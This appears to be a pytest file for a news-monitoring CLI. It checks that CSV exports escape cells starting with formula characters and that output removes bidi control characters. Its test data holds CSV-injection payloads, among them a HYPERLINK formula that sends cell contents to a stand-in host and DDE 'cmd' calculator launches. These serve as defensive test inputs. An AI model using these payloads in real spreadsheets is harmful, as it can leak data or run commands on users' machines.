"""What the CLI writes for people and spreadsheets (issue 11, items 1 and 8).

CSV exports never start a text cell with a formula character, and neither tables nor CSV carry the bidi
controls that would reorder what is printed beside a headline. Real databases (SQLite and PostgreSQL), the
real `monitor` command, the standard `csv` reader.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import yaml
from click.testing import CliRunner
from conftest import TOPICS
from seed import SeedArticle, seed

from monitor.cli import cli
from monitor.textsafe import BIDI_CONTROLS

# stored headline -> the CSV cell a spreadsheet shows as text
FORMULAS = {
    '=HYPERLINK("http://evil.test/?"&A1,"Click me")': '\'=HYPERLINK("http://evil.test/?"&A1,"Click me")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "@SUM(1+1)": "'@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\n=1+1",  # a bare CR would split the row (the writer ends lines with LF)
    "\u202e=1+1": "'=1+1",  # a bidi override in front must not hide the `=`
    "Nvidia -3% = a bargain?": "Nvidia -3% = a bargain?",
}
BIDI_TITLE = "Nvidia \u202eslips\u202c as \u2067buyers\u2069 wait"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _config(tmp_path: Path, database_url: str) -> Path:
    path = tmp_path / "monitor.yaml"
    path.write_text(yaml.safe_dump({"database_url": database_url, "topics": TOPICS}), encoding="utf-8")
    return path


def _articles(engine, tmp_path: Path, *args: str) -> str:  # noqa: ANN001
    config = _config(tmp_path, engine.url.render_as_string(hide_password=False))
    result = CliRunner().invoke(cli, ["--config", str(config), "articles", "--since", "2d", *args])
    assert result.exit_code == 0, result.output
    return result.stdout


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_cells_never_start_a_formula(engine, tmp_path: Path) -> None:  # noqa: ANN001
    at = datetime.now(UTC) - timedelta(hours=1)
    seed(
        engine,
        [SeedArticle(title, at + timedelta(minutes=i), {"nvidia": -0.5}) for i, title in enumerate(FORMULAS)],
    )
    rows = list(csv.DictReader(io.StringIO(_articles(engine, tmp_path, "--format", "csv"), newline="")))
    assert sorted(row["title"] for row in rows) == sorted(FORMULAS.values())
    for row in rows:
        for column, cell in row.items():
            # A number such as the score -0.5 is a number to a spreadsheet, not a formula.
            assert _is_number(cell) or not cell.startswith(FORMULA_START), (column, cell)
    assert {row["score"] for row in rows} == {"-0.5"}


def test_tables_and_csv_drop_bidi_controls(engine, tmp_path: Path) -> None:  # noqa: ANN001
    seed(engine, [SeedArticle(BIDI_TITLE, datetime.now(UTC) - timedelta(hours=1), {"nvidia": 0.01})])
    table = _articles(engine, tmp_path)
    exported = _articles(engine, tmp_path, "--format", "csv")
    for text in (table, exported):
        assert not any("\u202a" <= ch <= "\u202e" or "\u2066" <= ch <= "\u2069" for ch in text)
    assert "Nvidia slips as buyers wait" in table
    assert [row["title"] for row in csv.DictReader(io.StringIO(exported))] == ["Nvidia slips as buyers wait"]
    assert BIDI_CONTROLS == "\u202a-\u202e\u2066-\u2069"  # the ranges the dashboard's app.js repeats
